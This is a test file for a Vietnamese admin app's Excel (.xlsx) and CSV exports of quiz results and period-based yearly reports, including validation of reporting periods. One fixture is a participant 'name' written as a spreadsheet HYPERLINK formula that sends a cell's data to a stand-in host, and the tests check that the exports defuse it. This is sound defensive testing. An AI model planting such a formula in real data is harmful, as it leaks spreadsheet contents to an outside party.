/**
 * Staff downloads open in Excel whatever Windows' regional settings (trial users with Vietnamese
 * settings saw every CSV row in one column): each CSV has an .xlsx beside it, over HTTP as staff
 * get them. And the yearly report page takes a reporting period (15/12 to 14/12, 01/12 to
 * 30/11) as `loa report --from/--to` does, with its downloads following the period.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AdminClient, addUser, startAdminApp } from './support.js';
import { upsertPerson } from '../../src/db/people.js';
import { listAudit } from '../../src/db/audit.js';
import { parseCsv } from '../../src/text/csv.js';
import { CSV_HEADER } from '../../src/quiz/results.js';
import { XLSX_CONTENT_TYPE } from '../../src/text/xlsx.js';
import { readXlsx, serialToWallClock, type ReadXlsx } from '../support/xlsx.js';

const CONTEST = 'luyen-tap-quyen-tre-em';
/** 10:00 on 28/11/2026 in Vietnam: the period 01/12/2025 - 30/11/2026 is nearly over. */
const NOW = new Date('2026-11-28T03:00:00Z');
/** What a participant typed as their name: a formula that would send the sheet's data away. */
const FORMULA_NAME = '=HYPERLINK("http://x.example/?d="&C3,"Nhận thưởng")';

let t: Awaited<ReturnType<typeof startAdminApp>>;
let organiser: AdminClient;
let viewer: AdminClient;

beforeAll(async () => {
  t = await startAdminApp({ now: () => NOW });
  const db = t.app.db;
  const attempt = db.prepare(
    `INSERT INTO quiz_attempts (contest_id, person_id, channel, attempt_no, status, name, unit, phone, prediction, question_count, score, correct_count, total_ms, started_at, finished_at)
     VALUES (?, ?, ?, 1, 'done', ?, ?, ?, ?, 5, ?, ?, ?, '2026-11-20T01:00:00Z', '2026-11-20T01:02:00Z')`,
  );
  attempt.run(CONTEST, upsertPerson(db, 'telegram', '801').id, 'telegram', 'Nguyễn Thị Thuỷ Tiên', 'Hội LHPN xã Phố Hiến', '0912345678', 3, 40, 4, 52_340);
  attempt.run(CONTEST, upsertPerson(db, 'zalo', '802').id, 'zalo', FORMULA_NAME, '-Đoàn xã', null, null, 30, 3, 61_000);
  // Disinformation reported on 10/12/2025 (inside the period 01/12/2025 - 30/11/2026, outside
  // the calendar year 2026) and on 10/03/2026 (inside both).
  const kase = db.prepare(
    `INSERT INTO disinfo_cases (number, year, seq, match_key, url, status, outcome, platform, reporter_count, first_at, last_at, updated_at)
     VALUES (?, ?, ?, ?, ?, 'handled', 'platform', 'facebook', 1, ?, ?, ?)`,
  );
  kase.run('BC-2025-1', 2025, 1, 'u:1', 'https://example.org/1', '2025-12-10T03:00:00.000Z', '2025-12-10T03:00:00.000Z', '2025-12-10T03:00:00.000Z');
  kase.run('BC-2026-1', 2026, 1, 'u:2', 'https://example.org/2', '2026-03-10T03:00:00.000Z', '2026-03-10T03:00:00.000Z', '2026-03-10T03:00:00.000Z');
  organiser = new AdminClient(t.url);
  viewer = new AdminClient(t.url);
  expect((await organiser.login('thi', addUser(t.app, 'thi', ['quiz_organizer', 'viewer']))).status).toBe(303);
  expect((await viewer.login('xem', addUser(t.app, 'xem', ['viewer']))).status).toBe(303);
});
afterAll(async () => {
  await t.close();
});

/** A download as bytes, with its headers. */
async function download(c: AdminClient, path: string): Promise<{ status: number; headers: Headers; body: Buffer }> {
  const res = await fetch(t.url + path, { headers: { cookie: [...c.cookies].map(([k, v]) => `${k}=${v}`).join('; ') } });
  return { status: res.status, headers: res.headers, body: Buffer.from(await res.arrayBuffer()) };
}

/** Page text with the entities the templates write turned back into characters. */
const unescapeHtml = (html: string): string => html.replace(/&#39;|&#x27;|&quot;|&lt;|&gt;|&amp;/g, (e) => ({ '&#39;': "'", '&#x27;': "'", '&quot;': '"', '&lt;': '<', '&gt;': '>', '&amp;': '&' })[e]!);

/** The value of a report row (indicator, group) in a workbook, with the cell it came from. */
function figure(x: ReadXlsx, indicator: string, group = 'tất cả') {
  const i = x.rows.findIndex((r) => r[1] === indicator && r[2] === group);
  return i < 0 ? undefined : x.cells.get(`D${i + 1}`);
}

describe('contest results for Excel', () => {
  it('the contest page offers the .xlsx beside the CSV', async () => {
    const page = await organiser.get(`/admin/contests/${CONTEST}`);
    expect(page.text).toContain(`href="/admin/contests/${CONTEST}/export.xlsx" download>Tải về Excel (.xlsx)</a>`);
    expect(page.text).toContain(`href="/admin/contests/${CONTEST}/export.csv"`);
  });

  it('export.xlsx: the CSV’s header and rows, numbers as number cells, names as text, no formula', async () => {
    const res = await download(organiser, `/admin/contests/${CONTEST}/export.xlsx`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe(XLSX_CONTENT_TYPE);
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="ket-qua-${CONTEST}.xlsx"`);
    const x = readXlsx(res.body);
    expect(x.rows[0]).toEqual(CSV_HEADER);
    expect(x.frozenAt).toBe('A2');
    expect(x.rows[1]).toEqual([1, 'Nguyễn Thị Thuỷ Tiên', 'Hội LHPN xã Phố Hiến', 40, 52.3, 3, 'telegram', 4, 1, '0912 345 678']);
    // No prediction, no phone: empty cells (the row ends at its last value).
    expect(x.rows[2]).toEqual([2, FORMULA_NAME, '-Đoàn xã', 30, 61, null, 'zalo', 3]);
    for (const col of 'ADEFHI') expect(x.cells.get(`${col}2`)!.type, col).toBe('n');
    expect(x.cells.get('E2')!.format).toBe('0.0');
    // The name typed as a formula is a text cell, in Text format; nothing in the sheet is a formula.
    expect(x.cells.get('B3')).toMatchObject({ type: 's', format: '@', value: FORMULA_NAME });
    expect(x.cells.get('C3')).toMatchObject({ type: 's', format: '@', value: '-Đoàn xã' });
    expect([...x.cells.values()].filter((c) => c.formula !== undefined)).toEqual([]);
    // Every text cell of the CSV is in the workbook as it is (the CSV defuses with a leading ').
    const csv = parseCsv((await organiser.get(`/admin/contests/${CONTEST}/export.csv`)).text);
    expect(csv[2]![1]).toBe(`'${FORMULA_NAME}`);
    expect(x.rows.map((r, i) => Array.from({ length: csv[i]?.length ?? 0 }, (_, j) => (r[j] === null || r[j] === undefined ? '' : String(r[j]))))).toEqual(
      csv.map((r) => r.map((v) => v.replace(/^'(?=[=+\-@])/, '').replace(/^(\d+)\.0$/, '$1'))),
    );
    const audit = listAudit(t.app.db, { action: 'contest.export' });
    expect(audit[0]).toMatchObject({ actor: 'thi', targetId: CONTEST });
    expect(audit.map((a) => a.details?.format)).toContain('xlsx');
  });

  it('needs the same permission as the CSV', async () => {
    expect((await download(viewer, `/admin/contests/${CONTEST}/export.xlsx`)).status).toBe(403);
  });
});

describe('the yearly report for Excel', () => {
  it('report.xlsx holds the CSV’s rows: numbers as number cells, the time it was made as a date', async () => {
    const page = await viewer.get('/admin/report');
    expect(page.text).toContain('href="/admin/report.xlsx?year=2026" download>Tải về Excel (.xlsx)</a>');
    const res = await download(viewer, '/admin/report.xlsx?year=2026');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe(XLSX_CONTENT_TYPE);
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="bao-cao-2026.xlsx"');
    const x = readXlsx(res.body);
    expect(x.sheetName).toBe('Báo cáo 2026');
    const csv = parseCsv((await viewer.get('/admin/report.csv?year=2026')).text);
    expect(x.rows.length).toBe(csv.length);
    expect(x.rows[0]).toEqual(['Mục', 'Chỉ tiêu', 'Nhóm', 'Giá trị']);
    csv.forEach((row, i) => {
      const got = x.rows[i]!;
      expect(got.slice(0, 3)).toEqual(row.slice(0, 3));
      const cell = x.cells.get(`D${i + 1}`);
      if (row[1] === 'Lập lúc' || row[1] === 'Số liệu tính đến') {
        // A date cell, day first, showing what the CSV writes time first ("10:00 28/11/2026").
        expect(cell).toMatchObject({ type: 'n', format: 'dd/mm/yyyy hh:mm' });
        expect(serialToWallClock(cell!.value as number)).toBe('28/11/2026 10:00');
        expect(row[3]).toBe('10:00 28/11/2026');
      } else if (/^-?\d+(\.\d+)?$/.test(row[3] ?? '')) {
        expect(cell, `${row[1]} / ${row[2]}`).toMatchObject({ type: 'n', value: Number(row[3]) });
      } else {
        expect(got[3] ?? '', `${row[1]} / ${row[2]}`).toBe(row[3]);
      }
    });
    expect(figure(x, 'Điểm trung bình', 'Luyện tập nhanh - Quyền trẻ em')).toMatchObject({ type: 'n', value: 35 });
    expect(figure(x, 'Kỳ báo cáo')?.value).toBe('01/01/2026 - 31/12/2026');
    expect(figure(x, 'Vụ việc đã nhận')?.value).toBe(1);
    // A year that is over: its figures run to the end of its last day, said in words.
    const past = readXlsx((await download(viewer, '/admin/report.xlsx?year=2025')).body);
    expect(figure(past, 'Số liệu tính đến')).toMatchObject({ type: 's', value: 'hết 31/12/2025' });
  });
});

describe('a reporting period on the report page', () => {
  const period = `from=${encodeURIComponent('01/12/2025')}&to=${encodeURIComponent('30/11/2026')}`;

  it('shows the period, keeps it in the form, and every download follows it', async () => {
    const page = await viewer.get('/admin/report?from=01/12/2025&to=30/11/2026');
    expect(page.status).toBe(200);
    expect(page.text).toContain('Báo cáo năm 2026 · kỳ 01/12/2025 - 30/11/2026');
    expect(page.text).toContain('name="from" inputmode="numeric" placeholder="01/12/2025" size="11" value="01/12/2025"');
    expect(page.text).toContain('value="30/11/2026"');
    expect(page.text).toContain('Số liệu từ 01/12/2025 đến 10:00 28/11/2026');
    for (const path of ['/admin/report.xlsx', '/admin/report.csv', '/admin/report/print']) expect(page.text).toContain(`href="${path}?${period.replaceAll('&', '&amp;')}"`);
    expect(page.text).toContain('<td>Tháng 12/2025</td>');
    // A period is not called a year in the figures' sentences.
    expect(page.text).toContain('Người đăng ký mới trong kỳ báo cáo: <strong>0</strong>; người đăng ký nhận tin cuối kỳ:');
    expect(page.text).toContain('Không có lượt gửi nào trong kỳ báo cáo.');
    expect(page.text).not.toMatch(/trong năm|cuối năm/);

    const res = await download(viewer, `/admin/report.xlsx?${period}`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="bao-cao-01-12-2025-den-30-11-2026.xlsx"');
    const x = readXlsx(res.body);
    expect(figure(x, 'Kỳ báo cáo')?.value).toBe('01/12/2025 - 30/11/2026');
    // December 2025's case counts in the period, not in the calendar year.
    expect(figure(x, 'Vụ việc đã nhận')).toMatchObject({ type: 'n', value: 2 });
    expect(figure(x, 'Vụ việc theo tháng', 'tháng 12/2025')).toMatchObject({ type: 'n', value: 1 });

    const csv = await viewer.get(`/admin/report.csv?${period}`);
    expect(csv.headers.get('content-disposition')).toBe('attachment; filename="bao-cao-01-12-2025-den-30-11-2026.csv"');
    const find = (indicator: string) => parseCsv(csv.text).find((r) => r[1] === indicator && r[2] === 'tất cả')?.[3];
    expect(find('Kỳ báo cáo')).toBe('01/12/2025 - 30/11/2026');
    expect(find('Vụ việc đã nhận')).toBe('2');
    const print = await viewer.get(`/admin/report/print?${period}`);
    expect(print.text).toContain('Số liệu từ 01/12/2025 đến 10:00 28/11/2026');
    expect(print.text).toContain('<h1>BÁO CÁO KẾT QUẢ NĂM 2026</h1>\n<p class="sub">(Kỳ báo cáo từ 01/12/2025 đến 30/11/2026)</p>');
    expect(find('Người đăng ký nhận tin cuối kỳ')).toBe('0');

    const audit = listAudit(t.app.db, { action: 'report.export' }).filter((a) => a.details?.period);
    expect(audit.map((a) => [a.details?.format, a.details?.period])).toEqual(
      expect.arrayContaining([
        ['xlsx', '01/12/2025 - 30/11/2026'],
        ['csv', '01/12/2025 - 30/11/2026'],
      ]),
    );
  });

  it('a period from the 15th lists thirteen months', async () => {
    const page = await viewer.get('/admin/report?from=15/12/2025&to=14/12/2026');
    expect(page.status).toBe(200);
    expect(page.text).toContain('kỳ 15/12/2025 - 14/12/2026');
    expect(page.text).toContain('<td>Tháng 12/2026</td>');
    // The page's own example links are these periods.
    expect(page.text).toContain('href="/admin/report?from=15%2F12%2F2025&amp;to=14%2F12%2F2026"');
  });

  it.each([
    ['?from=01/12/2025', 'hãy cho cả ngày đầu (ô “Từ ngày”) và ngày cuối (ô “Đến ngày”) của kỳ báo cáo'],
    ['?from=01/12/2025&to=31/11/2026', "ô “Đến ngày”: '31/11/2026' không có ngày 31 trong tháng 11/2026"],
    ['?from=12/15/2025&to=12/14/2026', 'ngày Việt Nam viết ngày/tháng/năm; nếu đây là tháng/ngày kiểu Mỹ thì hãy viết 15/12/2025'],
    ['?from=01/12/2025&to=31/12/2026', 'dài hơn 12 tháng; kỳ báo cáo dài tối đa 12 tháng: bắt đầu 01/12/2025 thì kết thúc chậm nhất 30/11/2026'],
    ['?from=30/11/2026&to=01/12/2025', 'ngày cuối (ô “Đến ngày”) không được trước ngày đầu (ô “Từ ngày”)'],
    ['?from=01/01/2027&to=31/12/2027', 'kỳ báo cáo bắt đầu 01/01/2027, chưa tới (hôm nay là 28/11/2026)'],
    ['?year=2030', 'năm 2030 chưa tới (năm nay là 2026), nên chưa có số liệu. Hãy chọn năm 2026 hoặc một năm trước đó.'],
    ['?year=abc', 'hãy cho biết năm của báo cáo (từ 2000 đến 2100), ví dụ ô “Năm”: 2026.'],
  ])('%s is refused in Vietnamese, saying what to do, with the form kept', async (query, message) => {
    const page = await viewer.get(`/admin/report${query}`);
    expect(page.status).toBe(400);
    expect(page.text).toContain('Chưa lập được báo cáo: ');
    expect(unescapeHtml(page.text)).toContain(message);
    // What was typed stays in the form, to be corrected; no figures, no downloads.
    const typed = new URLSearchParams(query.slice(1));
    for (const [k, v] of typed) expect(page.text).toMatch(new RegExp(`name="${k}"[^>]*value="${v.replaceAll('/', '\\/')}"`));
    expect(page.text).not.toContain('Tải về Excel');
    const before = listAudit(t.app.db, { action: 'report.export' }).length;
    for (const path of ['/admin/report.xlsx', '/admin/report.csv', '/admin/report/print']) {
      const res = await viewer.get(`${path}${query}`);
      expect(res.status, path).toBe(400);
      expect(unescapeHtml(res.text)).toContain(message);
    }
    expect(listAudit(t.app.db, { action: 'report.export' }).length).toBe(before);
  });
});
